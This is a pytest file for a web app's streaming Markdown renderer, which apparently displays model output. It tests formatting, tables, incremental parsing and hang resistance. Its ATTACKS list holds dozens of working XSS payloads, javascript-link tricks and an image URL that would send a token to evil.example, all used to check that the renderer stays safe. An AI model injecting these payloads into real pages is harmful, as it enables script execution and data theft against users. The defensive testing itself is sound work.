"""Markdown on the page: what it looks like, that growing changes nothing, and that no text can do anything."""

import json
import random
import re
from pathlib import Path

import pytest

HTML = """({rendered}, text) => {
  const box = document.createElement("div");
  box.append(...rendered(text));
  return Array.from(box.children, (part) => part.innerHTML).join("");
}"""

GROWN = """({MarkdownView, rendered}, {text, size}) => {
  const [grown, whole] = [document.createElement("div"), document.createElement("div")];
  const prose = new MarkdownView(grown);
  for (let at = size; at < text.length; at += size) prose.show(text.slice(0, at));
  prose.show(text, {open: false});
  whole.append(...rendered(text));
  return [grown.innerHTML, whole.innerHTML];
}"""

MARK = '<span class="mark" data-marker="[1]">1</span>'
TASK = '<span class="task">{}</span>'

CASES = [
    ("# Title", "<h3>Title</h3>"),
    ("**bold** *lean* ~~gone~~ `a*b`", "<p><strong>bold</strong> <em>lean</em> <del>gone</del> <code>a*b</code></p>"),
    ("***both***", "<p><em><strong>both</strong></em></p>"),
    ("**重点：**内容", "<p><strong>重点：</strong>内容</p>"),
    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
    ("- one\n- two\n  - three", "<ul><li>one</li><li>two<ul><li>three</li></ul></li></ul>"),
    ("2. two\n3. three", '<ol start="2"><li>two</li><li>three</li></ol>'),
    ("1. one\n\n2. two", "<ol><li>one</li><li>two</li></ol>"),
    ("> said\n> twice", "<blockquote><p>said\ntwice</p></blockquote>"),
    ("```py\nx = '<b>'\n```", '<pre tabindex="0" data-language="py"><code>x = \'&lt;b&gt;\'</code></pre>'),
    ("```\nnever closed", '<pre tabindex="0"><code>never closed</code></pre>'),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("one  \ntwo", "<p>one<br>\ntwo</p>"),
    ("&lt;tag&gt; &amp; more", "<p>&lt;tag&gt; &amp; more</p>"),
    ("\\*not lean\\*", "<p>*not lean*</p>"),
    ("It is so [1].", '<p>It is so&nbsp;<span class="mark" data-marker="[1]">1</span>.</p>'),
    ("a [ bracket ] alone", "<p>a [ bracket ] alone</p>"),
    ("one<br>two", "<p>one<br>two</p>"),
    ("one\r\ntwo\r\n\r\n- three", "<p>one\ntwo</p><ul><li>three</li></ul>"),
    ("costs $5, not $10 or *$$*", "<p>costs $5, not $10 or <em>$$</em></p>"),
    ("where \\(a_1 * b_2 * |c|\\) is", "<p>where \\(a_1 * b_2 * |c|\\) is</p>"),
    ("so $$a_1 * b * c$$ and \\[x*y*z\\]", "<p>so $$a_1 * b * c$$ and \\[x*y*z\\]</p>"),
    ("so\n\\[\n- a_1\n+ b_1\n\\]\n*then*", "<p>so</p><p>\\[\n- a_1\n+ b_1\n\\]</p><p><em>then</em></p>"),
    ("- $$\n  x\n- y", "<ul><li>$$\nx</li><li>y</li></ul>"),
    ("a\\[0\\] and f\\*", "<p>a[0] and f*</p>"),
    ("- [x] done\n- [ ] to do", f"<ul><li>{TASK.format('☑')} done</li><li>{TASK.format('☐')} to do</li></ul>"),
    ("שלום **עולם** \u202eabc", "<p>שלום <strong>עולם</strong> \u202eabc</p>"),
    ("Title\n===\n\n    indented", "<p>Title\n===</p><p>indented</p>"),
    ("[1]: https://a.example\n\nsee [1]", f"<p>{MARK}: <a>https://a.example</a></p><p>see&nbsp;{MARK}</p>"),
]


@pytest.mark.parametrize(("text", "html"), CASES)
def test_what_it_looks_like(module, text, html):
    shown = module(HTML, "markdown_view.js", text).replace(' dir="auto"', "")
    assert re.sub("<a [^>]*>", "<a>", shown) == html


def test_each_block_is_read_in_the_direction_of_its_words(module):
    text = "שלום\n\nHello\n\n- אחד\n- two\n\n```\nx = 1\n```"
    html = module(HTML, "markdown_view.js", text)
    assert re.findall(r"<(?:p|ul|pre)\b[^>]*>", html) == [
        *['<p dir="auto">'] * 2,
        '<ul dir="auto">',
        '<pre tabindex="0">',
    ]


def test_a_table(module):
    html = module(HTML, "markdown_view.js", "| a | b |\n|---|--:|\n| 1 | `x|y` |\n| 2 |")
    assert "<th>a</th>" in html
    assert '<td class="right"><code>x|y</code></td>' in html
    assert html.count("<td") == 4


def test_a_bar_in_code_or_maths_divides_no_cells(module):
    html = module(
        HTML, "markdown_view.js", "a | b\n--|--\n`x\\|y` | `` z|` `` \n \\(|w|\\) | v\\|u\n\n`a|b`\n\n```\n`c|d`\n```"
    )
    cells = re.findall("<td>(.*?)</td>", html)
    assert cells == ["<code>x|y</code>", "<code>z|`</code>", r"\(|w|\)", "v|u"]
    assert "<code>a|b</code>" in html
    assert "<code>`c|d`</code>" in html


def test_what_reads_markdown_is_tried_on_each_kind_before_the_first_words_come(module):
    html = module("m => m.prepareMarkdown().outerHTML", "markdown_view.js", "")
    kinds = {"h3", "p", "em", "strong", "code", "a", "ul", "ol", "li", "blockquote", "table", "th", "td", "hr", "pre"}
    assert set(re.findall(r"<(\w+)", html)) >= kinds


def test_a_link_tells_where_it_leads(module):
    html = module(HTML, "markdown_view.js", "[your bank](https://evil.example/login) and https://a.example/b.")
    assert 'data-host="evil.example"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert ">https://a.example/b</a>." in html


# Everything that was seen to run script, load something, or hide something, somewhere.
ATTACKS = [
    "<script>document.title='x'</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "</p></div></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/relative)",
    "[x](/runs/1/stop)",
    "[x](?thread=1)",
    "[x](intent://evil#Intent;end)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](https://evil.example/?secret=token)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1) 'title')",
    '[x](https://a.example "title\\" onclick=alert(1) x=\\"")',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "[1]: javascript:alert(1)\n\n[x][1]",
    "[ref]: https://evil.example\n\n![x][ref]",
    '[1](javascript:alert(1)) [2]" onclick="alert(1)',
    "<a\nhref=javascript:alert(1)>x</a>",
    "<x onclick=alert(1) style=position:fixed;inset:0>click",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "mailto:x@a.example?body=<script>alert(1)</script>",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/\u202egnp.exe",
    "<https://a.example/' onclick='alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "__proto__ [x](https://a.example){onclick=alert(1)}",
    "\u2028<script>\u2029alert(1)</script>",
    "\x00<script>alert(1)</script>",
]

BLOCKS = {"P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "HR", "DIV"}
TABLES = {"TABLE", "THEAD", "TBODY", "TR", "TH", "TD"}
TAGS = BLOCKS | TABLES | {"A", "SPAN", "STRONG", "EM", "DEL", "BR", "CODE"}
ATTRIBUTES = {
    "href",
    "title",
    "target",
    "rel",
    "data-host",
    "class",
    "data-marker",
    "data-language",
    "tabindex",
    "start",
    "dir",
}

DOOR = """({MarkdownView}, text) => {
  const box = document.querySelector("#turns").appendChild(document.createElement("div"));
  const prose = new MarkdownView(box);
  for (let at = 1; at < text.length; at += 3) prose.show(text.slice(0, at));
  prose.show(text, {open: false});
  const every = [...box.querySelectorAll("*")];
  const found = {
    tags: every.map((element) => element.tagName),
    attributes: every.flatMap((element) => element.getAttributeNames()),
    links: every.filter((element) => element.href).map((element) => element.protocol),
    text: box.textContent,
  };
  for (const element of every) element.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
  return found;
}"""


def test_model_output_never_runs_loads_or_navigates(module, visit, files):
    page = visit(files, alone=True)
    page.on("dialog", lambda dialog: (_ for _ in ()).throw(AssertionError(dialog.message)))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for attack in ATTACKS:
        found = page.evaluate(f"async (given) => ({DOOR})(await import('/markdown_view.js'), given)", attack)
        assert set(found["tags"]) <= TAGS, attack
        assert set(found["attributes"]) <= ATTRIBUTES, attack
        assert set(found["links"]) <= {"https:", "http:", "mailto:"}, attack
    page.wait_for_timeout(300)
    assert not [url for url in asked if not url.startswith(files)]
    assert page.url == files
    assert page.title() == "Mainstem"


INNER = """() => {
  try {
    document.body.innerHTML = "<b>x</b>";
    return "made";
  } catch (error) {
    return error.name;
  }
}"""


def test_the_page_itself_cannot_make_elements_from_text(visit, files):
    page = visit(files)
    assert page.evaluate(INNER) == "TypeError"
    sources = [file.read_text() for file in (Path(__file__).parents[3] / "mainstem/web/page").rglob("*.*js")]
    for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
        assert not any(word in source for source in sources), word


LONG = 20_000
PIECES = "[|![|[a](|*a |**a*|_|`|` `` ``` |> |- |1. |a\n- |[a](<b|\\|<https://|http://|`a|\n|#|~~~|&amp|[1]|!|<br>"
HOPELESS = [piece * LONG for piece in PIECES.split("|")]
HOPELESS += ["a|b\n" * LONG, "|a" * LONG + "\n" + "|-" * LONG, " " * LONG + "x"]
HOPELESS += ["[[a](http://u)" * 3000 + "]" * 3000 + "(http://x)"]

HANGS = 60.0
"""Seconds after which a text counts as hanging, on a busy machine."""

PARSED = """({blocks}, texts) => texts.map((text) => {
  const begin = performance.now();
  for (const open of [false, true]) blocks(text, {open});
  return performance.now() - begin;
})"""


def test_no_text_makes_the_parser_hang(module):
    """Ten times the text takes about ten times as long: what is quadratic would take minutes here."""
    took = module(PARSED, "markdown.js", HOPELESS)
    slowest = sorted(zip(map(round, took), (text[:8] for text in HOPELESS), strict=True))[-3:]
    assert max(took) < HANGS * 1000, slowest


@pytest.mark.parametrize("size", [1, 5, 64])
def test_growing_gives_what_the_whole_gives(module, size):
    docs = Path(__file__).parents[3] / "docs"
    for text in [
        "\n\n".join(text for text, _ in CASES),
        *[(docs / name).read_text() for name in ("reference/laws.md", "how-to/testing.md")],
    ]:
        grown, whole = module(GROWN, "markdown_view.js", {"text": text[:6000], "size": size})
        assert grown == whole


PIECES_THAT_GROW = ["a", " b", "\n", "\n\n", "- ", "1. ", "> ", "# ", "```", "`", "**", "*", "_", "~~", "é", "😀", "|"]
PIECES_THAT_GROW += ["[1]", "[a](http://x.y/z)", "![i](http://x/y)", "http://a.example/b", "<br>", "&amp;", "- [ ] t\n"]
PIECES_THAT_GROW += ["\\(x_1*y\\)", "\\[\n", "\\]\n", "$$\n", "$$", "\\", "---\n", "===\n", "~~~\n", "a|b\n", "-|-\n"]
PIECES_THAT_GROW += ["  ", "    ", "\r\n", "\r", "\t"]

SENTENCES = [
    ". Then it goes ",
    "word, Next ",
    "The **river** takes `water` in. And ",
    "*carries* it all; So ",
    "[1]. So ",
]
SENTENCES += [" **a *b* c** d. E ", "a_b. C ", "`a|b`. D ", "[x](http://y.z). F ", "a | b. G ", "**", "*", "`"]

ITEMS = [
    "- ",
    "\n- ",
    "\n  more",
    "\n\n- ",
    "\n   - nested",
    "\n\n  below",
    "\n1. ",
    "\n2. x",
    "\n2) y",
    "\n* z",
    "\n- b | c",
]
ITEMS += ["\n--- | ---", "\n  --- | ---", "\n- - -", "\n```\ncode\n```", "\n  ```\n  c\n  ```\n", "\n> q", "\n    deep"]
ITEMS += ["\n- [x] done", "word ", "**b** ", "\n", "\n-\n", "\n- \n  a", "\n  c", "lazy\nline", " one item. And "] * 2

QUOTED = [
    "\n> ",
    "> ",
    "\n>\n> ",
    "\n>",
    "\n> - ",
    "\n>   - ",
    "\n> 1. ",
    "\n> a|b\n> -|-",
    "\n> | c",
    "\n> > ",
    "\n  > ",
    "\n\n",
]
QUOTED += [
    "\nlazy",
    "\n> # h",
    "\n> ```\n> x\n> ```",
    "\n> ---",
    "\n> \t",
    "\n",
    "**b\n> b** ",
    "**a\n>** ",
    "`a\n> b`. C ",
]
QUOTED += ["word ", ". So ", " it is. And ", "[1]. So ", " one. Two "] * 3
ROWS = [
    "a|b\n-|-\n",
    "\n\n| a | b |\n|:-:|---|\n",
    "\n| c | d |",
    "\n|e|",
    "\ne | f | g",
    "\n\n",
    "\n",
    " `x|y` ",
    "**b**",
    "\\(a|b\\)",
]
ROWS += ["\n> q", "\n- i", "\n|", "\n  | h |", "\n-|-", "\nwords", "| x | y |\n", "z", "\n    four"] * 2

TREES = """async ({IncrementalMarkdown, blocks}, given) => {
  const {pieces} = await import("/block_pieces.js");
  const differs = ([text, size, limits]) => {
    const {head, large} = limits;
    const markdown = new IncrementalMarkdown(limits);
    const whole = (end, open) => blocks(text.slice(0, end), {open, head}).flatMap(({tree}) => pieces(tree, large));
    const same = (trees, end, open) => JSON.stringify(trees) === JSON.stringify(whole(end, open));
    const trees = [];
    let at = 0;
    let isSame = true;
    for (; at + size < text.length; at += size) {
      const {settled, moving} = markdown.add(text.slice(at, at + size));
      trees.push(...settled);
      isSame &&= same([...trees, ...moving], at + size, true);
    }
    trees.push(...markdown.add(text.slice(at), {open: false}).settled);
    return !isSame || !same(trees, text.length, false);
  };
  return given.filter(differs);
}"""


GROWING = [PIECES_THAT_GROW, SENTENCES, PIECES_THAT_GROW + SENTENCES * 2, ITEMS, QUOTED, ROWS]
GROWING += [QUOTED + SENTENCES, [*ROWS, "| r | s |\n"] * 2 + QUOTED]


STRUCK = "Abc ~~1. aa|b\n<br># [1]    ```&amp;1. # ---\n$$# \n\n\n\n"
"""What is struck out is closed by nothing here: found once among very many texts."""

TEXTS = 400
"""Of each kind: what was planted in what settles is found by the first 240, where it is found at all."""


@pytest.mark.parametrize("pieces", GROWING)
def test_growing_gives_what_the_whole_gives_for_any_text(module, pieces):
    """At every step. With small limits, blocks are settled in the middle of what may still change."""
    chance = random.Random(11)
    texts = ["Abc ".join(["", "".join(chance.choices(pieces, k=chance.randint(1, 30)))]) for _ in range(TEXTS)]
    small = {"long": 20, "near": 3, "head": 25, "large": 40}
    given = [(text, chance.choice((1, 2, 3, 5, 20)), small if number % 4 else {}) for number, text in enumerate(texts)]
    given.append((STRUCK, 2, small))
    assert module(TREES, "markdown.js", given) == []


@pytest.mark.parametrize(
    "words",
    [
        "The **river** takes in `water` [1] from all sides. It *carries* it, ",
        "A river of words. So ",
        "It takes in water\nfrom all sides. It carries it. ",
        "- an item of **some** words\n",
        "1. an item\n\n   - with others `below` it\n\n",
        "> The river takes in `water` from all sides. It carries it,\n",
        "> - an item\n>\n> and words.\n>\n",
        "| river | takes `water` |\n",
    ],
)
def test_of_a_long_block_only_the_end_is_parsed_again(module, words):
    code = """({IncrementalMarkdown}, words) => {
      const markdown = new IncrementalMarkdown();
      let most = 0;
      if (words.startsWith("|")) markdown.add("| a | b |\\n|---|---|\\n");
      for (let told = 0; told < 20_000; told += words.length) {
        markdown.add(words);
        most = Math.max(most, markdown.pending);
      }
      return most;
    }"""
    assert module(code, "markdown.js", words) < 3000


PIECES = """({blocks}, given) => import("/block_pieces.js").then(({pieces}) => given.map((text) => {
  const [{tree}] = blocks(text);
  const words = (trees) => trees.map((each) => each.children ?? each).join("; ");
  return pieces(tree, 20).map(({tag, attrs, children}) => [tag, attrs ?? null, words(children)]);
}))"""


def test_a_very_long_block_is_shown_in_pieces(module):
    """A paragraph from a sentence on, a list from an item on, a quotation from what it holds on; numbers go on."""
    auto = {"dir": "auto"}
    on = {"class": "goes-on", **auto}
    given = [
        "The river is **long**. It carries water, all of it. So",
        "3. one of\n4. the many and more\n5. three",
        "- one of\n- the many and more",
        "> Short.\n>\n> The river is long. It carries all of it. So",
    ]
    found = module(PIECES, "markdown.js", [*given, "```\none line of many here\n```", "short"])
    assert found == [
        [["p", auto, "The river is ; long; . It carries water, "], ["p", on, "all of it. So"]],
        [["ol", {"start": "3", **auto}, "one of; the many and more"], ["ol", {**on, "start": "5"}, "three"]],
        [["ul", auto, "one of; the many and more"]],
        [["blockquote", auto, "Short.; The river is long. It carries all of it. "], ["blockquote", on, "So"]],
        [["pre", {"tabindex": "0"}, "one line of many here"]],
        [["p", auto, "short"]],
    ]


def test_each_piece_of_a_very_long_table_has_its_head(module):
    code = """async ({MarkdownView}, text) => {
      const box = document.createElement("div");
      const view = new MarkdownView(box);
      for (let end = 0; end < text.length; end += 500) view.show(text.slice(0, end));
      view.show(text, {open: false});
      const texts = (within, which) => Array.from(within.querySelectorAll(which), (each) => each.textContent);
      return Array.from(box.querySelectorAll("table"), (table) => [texts(table, "th"), texts(table, "td")]);
    }"""
    rows = [[f"row {number}", f"some words of {number}"] for number in range(600)]
    text = "| one | two |\n|---|---|\n" + "\n".join(f"| {' | '.join(row)} |" for row in rows)
    tables = module(code, "markdown_view.js", text)
    assert len(tables) > 2
    assert [head for head, _ in tables] == [["one", "two"]] * len(tables)
    assert [cell for _, cells in tables for cell in cells] == [cell for row in rows for cell in row]


def test_only_the_end_is_parsed_again(module):
    """Two blocks at most can still change; what is settled leaves the text that is parsed."""
    code = """({IncrementalMarkdown}, text) => {
      const markdown = new IncrementalMarkdown();
      const {settled, moving} = markdown.add(text + "last\\n\\n- one\\n- two\\n");
      const [before] = moving;
      const [after] = markdown.add("- three").moving;
      return [settled.length, moving.length, before.children.length, after.children.length];
    }"""
    assert module(code, "markdown.js", "one\n\n" * 100) == [101, 1, 2, 3]


def test_what_is_settled_is_never_made_again(module):
    """Nodes of settled blocks stay the same objects, so that a selection and the reader's place survive."""
    code = """({MarkdownView}, text) => {
      const box = document.createElement("div");
      const prose = new MarkdownView(box);
      prose.show("first\\n\\nsecond begins");
      const [part] = box.children;
      const [first, second] = part.children;
      const words = second.firstChild;
      prose.show("first\\n\\nsecond begins and **goes** on\\n\\nthird");
      const [again, next] = part.children;
      return [again === first, next === second, second.firstChild === words, part.children.length];
    }"""
    assert module(code, "markdown_view.js") == [True, True, True, 3]


def test_blocks_keep_their_order_from_part_to_part(module):
    code = """({MarkdownView, rendered}, text) => {
      const box = document.createElement("div");
      const prose = new MarkdownView(box);
      for (let end = 0; end < text.length; end += 7) prose.show(text.slice(0, end));
      prose.show(text, {open: false});
      const texts = (parts) => Array.from(parts, (part) => Array.from(part.children, (each) => each.textContent));
      return [texts(box.children), texts(rendered(text))];
    }"""
    text = "\n\n".join(f"Paragraph {number}." for number in range(100))
    shown = module(code, "markdown_view.js", text)
    for parts in shown:
        assert [each for part in parts for each in part] == text.split("\n\n")
        assert len(parts) > 3
        assert max(map(len, parts)) <= 26


def test_long_code_stands_in_blocks_of_lines(module):
    code = "({lineBlocks}, pieces) => lineBlocks(pieces)"
    lines = [f"line {number}\n" for number in range(130)]
    pieces = [["", "".join(lines[:60])], ["text", "".join(lines[60:129])], ["", lines[129] + "end"]]
    found = module(code, "code_lines.js", pieces)
    assert ["".join(words for _, words in block) for block in found] == [
        "".join(lines[:64]),
        "".join(lines[64:128]),
        "".join(lines[128:]) + "end",
    ]
    assert [kind for kind, _ in found[0]] == ["", "text"]
    assert module(code, "code_lines.js", [["", "short\n\nend"]]) == [[["", "short\n\nend"]]]


def test_what_is_still_open_is_shown_as_if_closed(module):
    code = """({blocks}, text) => JSON.stringify(blocks(text, {open: true}).map((block) => block.tree))"""
    assert "strong" in module(code, "markdown.js", "some **bold te")
    assert "*" not in module(code, "markdown.js", "some **bold**, and *")
    assert json.loads(module(code, "markdown.js", "see [here](https://exa"))[0]["children"][1]["tag"] == "span"
